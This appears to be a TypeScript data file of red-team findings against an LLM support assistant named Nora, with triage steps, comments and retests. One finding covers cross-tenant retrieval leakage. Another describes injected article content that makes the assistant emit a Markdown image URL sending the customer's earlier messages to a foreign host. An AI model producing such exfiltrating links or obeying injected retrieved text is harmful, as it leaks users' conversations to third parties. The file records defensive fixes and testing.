import type { FindingStory } from '../story/story.ts'

const round = { source: 'AI red team', sourceKind: 'PERSON', team: 'ML_PLATFORM' } as const

/** What Nora retrieves and what it answers with: found on 2.1 in service and on 2.2. */
export const noraOutputFindings: readonly FindingStory[] = [
  {
    ...round,
    slug: 'cross-tenant-retrieval',
    at: [16, '10:20'],
    by: 'amara',
    title: 'Retrieval returns another merchant’s articles',
    description:
      'Private articles of merchant A are ranked for merchant B: the tenant filter runs after ranking, and the ten best may all be foreign. Titles and first lines leak into answers.',
    category: 'LEAKAGE',
    severity: 'HIGH',
    cwe: [639, 668],
    asset: 'retrieval service',
    owner: 'leila',
    labels: ['llm08:2025', 'tenancy'],
    subjects: [
      { version: '2.1', status: 'AFFECTED' },
      {
        version: '2.2',
        status: 'UNKNOWN',
        since: [14, '10:05'],
        changes: [{ at: [13, '16:30'], by: 'amara', to: 'FIXED', reason: 'Retest passed' }],
      },
    ],
    steps: [
      { at: [16, '13:00'], by: 'jonas', to: 'TRIAGED' },
      { at: [15, '09:40'], by: 'leila', to: 'IN_PROGRESS' },
      { at: [14, '10:30'], by: 'leila', to: 'RESOLVED', reason: 'Filter by tenant before ranking, in 2.2' },
      { at: [13, '16:32'], by: 'amara', to: 'VERIFIED', reason: '0 of 500 on 2.2' },
    ],
    comments: [
      {
        at: [16, '11:05'],
        by: 'leila',
        body: 'Confirmed. The index has the tenant as metadata; the filter was moved behind the reranker in August for recall.',
      },
      {
        at: [15, '09:45'],
        by: 'wei',
        body: 'Please also refuse when the caller’s tenant is unknown, rather than search everything.',
      },
      {
        at: [13, '16:35'],
        by: 'amara',
        body: '500 queries over 20 merchant pairs on 2.2: none foreign. 2.1 stays affected until it leaves service.',
      },
    ],
    retests: [
      {
        at: [14, '10:40'],
        by: 'leila',
        version: '2.2',
        scheduled: [14, '15:00'],
        performed: {
          at: [13, '16:30'],
          by: 'amara',
          result: 'PASSED',
          attempts: 500,
          successes: 0,
          threshold: 0,
          judge: 'exact match on article ids',
        },
        notes: '20 merchant pairs, 25 queries each.',
      },
    ],
  },
  {
    ...round,
    slug: 'markdown-image-exfiltration',
    at: [9, '11:15'],
    by: 'amara',
    title: 'A Markdown image carries the conversation to a foreign host',
    description:
      'An article can make Nora answer with `![](https://host/?q=…)`, and the chat window loads it. The query string holds what the customer wrote before.',
    category: 'UNSAFE_OUTPUT',
    severity: 'HIGH',
    cwe: [201, 116],
    asset: 'web chat',
    owner: 'ines',
    labels: ['llm05:2025'],
    subjects: [
      { version: '2.1', status: 'AFFECTED' },
      { version: '2.2', status: 'UNKNOWN' },
    ],
    steps: [
      { at: [9, '13:00'], by: 'jonas', to: 'TRIAGED' },
      { at: [8, '09:30'], by: 'ines', to: 'IN_PROGRESS' },
      {
        at: [4, '17:10'],
        by: 'ines',
        to: 'RESOLVED',
        reason: 'Images from unlisted hosts are dropped by the output guardrail',
      },
    ],
    comments: [
      {
        at: [9, '11:40'],
        by: 'tomas',
        body: 'The content security policy of the web chat would have stopped it; the mobile app has none. Both, please.',
      },
      {
        at: [4, '17:15'],
        by: 'ines',
        body: 'Fixed in the guardrail and in the web view’s policy. Ready for a retest on 2.2.',
      },
      { at: [3, '10:00'], by: 'amara', body: 'Scheduled for this week, together with the injection suite.' },
    ],
    retests: [
      {
        at: [4, '17:12'],
        by: 'ines',
        version: '2.2',
        scheduled: [3, '10:00'],
        notes: 'Web chat and mobile app, 40 payloads.',
      },
    ],
  },
]
